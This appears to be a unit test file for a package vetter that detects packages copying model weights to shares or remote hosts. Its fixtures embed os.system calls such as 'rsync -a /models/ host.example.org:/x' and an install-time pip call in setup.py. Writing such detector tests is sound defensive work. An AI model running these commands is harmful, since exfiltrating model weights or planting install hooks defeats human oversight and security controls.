"""A copy command's paths, read once for both readers of its direction (``picked.copy_paths``):
the move of weights to a share or a host is judged on the command's own paths, up to the end
of its shell command, not on the last word of the whole line. On ``9f88751`` a copy when
called that was followed by another command (``cp -r /models /mnt/share/x && echo done``) was
allowed; a look-alike's name was compared with every word of its pip command, so a package
named next to ``pip`` itself was denied for installing anything."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.picked import DIRECTED, LOCAL_COPY, copy_paths
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist
from tests.unit.imports.packages.adversary import verdict_cases, vet_package


def called(command: str) -> dict[str, str]:
    return {"evpkg/__init__.py": f"import os\n\n\ndef backup():\n    os.system({command!r})\n"}


DENIED = {
    "weights-to-a-share-then-more": called("cp -r /models/llama /mnt/share/x && echo done"),
    "weights-to-a-host-then-more": called("rsync -a /models/ host.example.org:/x; echo ok"),
}
ALLOWED = {
    "a-download-then-more": called("rsync -a host.example.org:/x/ /models/x && echo ok"),
    "a-config-to-a-share-then-more": called("cp /etc/app.conf /mnt/share/ && echo done"),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_copy_moves(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(
    ("command", "paths"),
    [
        ("cp -r /models /mnt/s && echo done", (["/models"], "/mnt/s")),
        ("x; aws s3 sync /a /b s3://c | tee log", (["/a", "/b"], "s3://c")),
        ("cp -r /models", None),
        ("echo cp", None),
    ],
)
def test_the_paths_of_a_copy(command: str, paths: tuple[list[str], str] | None) -> None:
    assert copy_paths(command, DIRECTED.search(command) or LOCAL_COPY.search(command)) == paths


def test_a_name_next_to_pip_installing_a_real_project_is_held_not_denied() -> None:
    setup = (
        "import os\nfrom setuptools import setup\n\n"
        "os.system('pip install numpy')\nsetup(name='pipa', version='0.1')\n"
    )
    data = sdist("pipa", "0.1", {"setup.py": setup, "pipa/__init__.py": "X = 1\n"})
    assert vet("pipa-0.1.tar.gz", data).verdict is Outcome.HOLD
